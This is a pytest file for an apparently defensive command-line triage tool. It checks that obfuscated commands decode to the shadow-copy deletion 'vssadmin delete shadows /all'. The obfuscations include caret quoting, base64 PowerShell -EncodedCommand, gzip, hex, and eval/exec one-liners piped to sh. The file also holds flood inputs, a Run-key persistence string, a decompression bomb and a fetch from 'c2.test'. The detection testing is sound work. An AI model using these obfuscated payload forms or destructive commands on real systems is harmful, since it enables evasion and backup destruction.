"""The forms of a command line: each way to hide a command gives the same plain text, in bounds."""

import base64
import gzip
import zlib
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.triage.samples import alert
from vyrox.triage import catalogue
from vyrox.triage.score import judge
from vyrox.triage.signal import MAX_SEARCHED, Subject
from vyrox.triage.views import (
    MAX_ATTEMPTS,
    MAX_CHARACTERS,
    MAX_DECODED,
    MAX_DEPTH,
    MAX_PARTS,
    views,
)

PLAIN: Final = "vssadmin delete shadows /all"
WIDE: Final = base64.b64encode(PLAIN.encode("utf-16-le")).decode()
BYTES: Final = base64.b64encode(PLAIN.encode()).decode()
GZIP: Final = base64.b64encode(gzip.compress(PLAIN.encode())).decode()
DEFLATED: Final = base64.b64encode(zlib.compress(PLAIN.encode())[2:-4]).decode()
HEX: Final = PLAIN.encode().hex()
PREFIXES: Final = ["e", "ec", *("EncodedCommand"[:n] for n in range(2, 15))]


def wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "line",
    [
        "v^s^s^admin de^lete shad^ows /all",
        'vss""admin de""lete sha""dows /all',
        'v"ss"admin d"elet"e shadows /all',
        "vs'sa'dmin delete shadows /all",
        "iex ('vssad'+'min del' + 'ete shadows /all')",
        'iex ("{1}{0}" -f "min delete shadows /all","vssad")',
        "vs`sad`min delete shadows /all",
        "vssadmin\u00a0delete\u200b shadows /all",
        "VSSADMIN \t DELETE   Shadows /ALL",
        "vssadmin delete ^\r\n shadows /all",
        "\uff56\uff53\uff53admin delete shadows /all",
        "iex ([char]118+[char]115+[char]115+[char]97+'dmin delete shadows /all')",
    ],
)
def test_views_undo_quoting(line: str) -> None:
    assert PLAIN in views(line).texts[0].text.replace("'", "").replace("+", "")


@pytest.mark.parametrize(
    "line",
    [
        *(f"powershell -{prefix} {WIDE}" for prefix in PREFIXES),
        *(f"powershell {dash}enc {WIDE}" for dash in "/\u2013\u2014\u2015"),
        f'powershell -e^nc "{WIDE}"',
        f"iex([Convert]::FromBase64String('{BYTES}'))",
        f"$a = '{BYTES}';iex([Convert]::FromBase64String($a))",
        f"echo {BYTES} | base64 -d | sh",
        f"echo -n '{BYTES}'|base64 --decode|sh",
        f"base64 -d <<< {BYTES} | sh",
        f"bash -c {{echo,{BYTES}}}|{{base64,-d}}|bash",
        f"python -c \"import base64;exec(base64.b64decode('{BYTES}'))\"",
        f"echo {BYTES} | openssl base64 -d | sh",
        f"php -r 'eval(base64_decode(\"{BYTES}\"));'",
        f"node -e 'eval(atob(\"{BYTES}\"))'",
        f"New-Object IO.Compression.GzipStream([Convert]::FromBase64String('{GZIP}'))",
        f"New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('{DEFLATED}'))",
        f"echo {HEX} | xxd -r -p | sh",
        f"python3 -c \"exec(bytes.fromhex('{HEX}'))\"",
        f"powershell -e {wide('powershell -enc ' + WIDE)}",
    ],
)
def test_views_decode(line: str) -> None:
    found = views(line)
    assert any(PLAIN in view.text and view.decoded for view in found.texts)
    assert "encoded" in found.marks


@pytest.mark.parametrize(
    ("line", "programs"),
    [
        ("a & b && c | d || e; f\ng", ["a", "b", "c", "d", "e", "f", "g"]),
        ('cmd.exe /q /c "whoami & ver"', ["cmd", "whoami", 'ver"']),
        ('sh -c "id; uname -a"', ["sh", "id", "uname"]),
        ("powershell -nop -command whoami", ["powershell", "whoami"]),
        ("wsl -e id", ["wsl", "id"]),
        ("wsl.exe -d Ubuntu -- make -j8", ["wsl", "make"]),
        ("sudo -u root /bin/id", ["sudo", "id"]),
        ("nohup /tmp/x", ["nohup", "x"]),
        ("env A=1 B=2 /tmp/x", ["env", "x"]),
        ('"C:\\Program Files\\A B\\c.exe" -x', ["c"]),
        (r"C:\Program Files\A B\c.exe -x", ["c"]),
    ],
)
def test_views_name_the_programs(line: str, programs: list[str]) -> None:
    assert [each.name for each in views(line).programs] == programs


def test_views_mark_what_hides_but_cannot_be_undone() -> None:
    assert "substring" in views("%comspec:~9,1%url http://c2.test").marks
    assert "hidden_characters" in views("cmd \u202ecod.exe").marks


def nested(times: int) -> str:
    line = PLAIN
    for _ in range(times):
        line = "powershell -enc " + wide(line)
        if len(line) > 4 * MAX_CHARACTERS:
            return line
    return line


HOSTILE: Final = {
    "long": "a" * 1_000_000,
    "carets": "^" * 1_000_000,
    "joins": "'+'" * 300_000,
    "formats": '("{0}"-f' * 100_000,
    "backslashes": "\\" * 1_000_000,
    "variables": "%temp%" * 100_000,
    "fetches": "curl " * 200_000,
    "keys": "reg add " * 100_000 + "currentversion\\run",
    "bidi": "\u202e" * 300_000,
    "grows_in_nfkc": "\ufdfa" * 300_000,
    "controls": "".join(map(chr, range(32))) * 10_000,
    "grows_in_lower_case": "\u0130" * 100_000,
    "surrogates": "\ud800" * 100_000,
    "nested": nested(50),
    "many": f"powershell -enc {WIDE} " * 10_000,
    "in_vain": " ".join(f"-enc {n:012}" for n in range(10_000)),
    "bomb": "FromBase64String('"
    + base64.b64encode(gzip.compress(b"a" * 5_000_000)).decode()
    + "')",
    "gaps": "rsync shadow ssh -r env:temp new-service " * 20_000,
    "documents": "get-childitem .pst .docx env:temp " * 20_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_bounds_are_counts(name: str) -> None:
    line = HOSTILE[name]
    found = views(line)
    plain, *decoded = found.texts
    assert len(plain.text) <= MAX_CHARACTERS
    assert sum(len(view.text) for view in decoded) <= MAX_DECODED
    assert len(decoded) <= MAX_ATTEMPTS
    assert len(found.programs) <= MAX_PARTS
    subject = Subject(alert(line), found, catalogue.present(found))
    for signal in catalogue.SIGNALS:
        signal.find(subject)
    assert subject.work.searched <= MAX_SEARCHED
    verdict = judge(alert(line))
    assert verdict.explanation()
    assert "triage.error" not in {reason.signal for reason in verdict.reasons}


def test_limits_are_those_of_the_design() -> None:
    assert (MAX_CHARACTERS, MAX_DEPTH, MAX_DECODED) == (32 * 1024, 3, 64 * 1024)


def test_views_open_three_levels() -> None:
    assert len(views(nested(MAX_DEPTH)).texts) == 1 + MAX_DEPTH
    assert len(views(nested(MAX_DEPTH + 1)).texts) == 1 + MAX_DEPTH
    assert "flooded" in views(HOSTILE["in_vain"]).marks
    assert "flooded" not in views(nested(2)).marks


def test_judge_says_what_was_not_tried(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("vyrox.triage.signal.MAX_SEARCHED", 100)
    verdict = judge(alert("whoami & " * 20))
    assert verdict.band == "review"
    assert "evasion.exhausted" in {reason.signal for reason in verdict.reasons}


@given(st.text(max_size=2_000))
def test_views_take_any_text(line: str) -> None:
    assert views(line) == views(line)
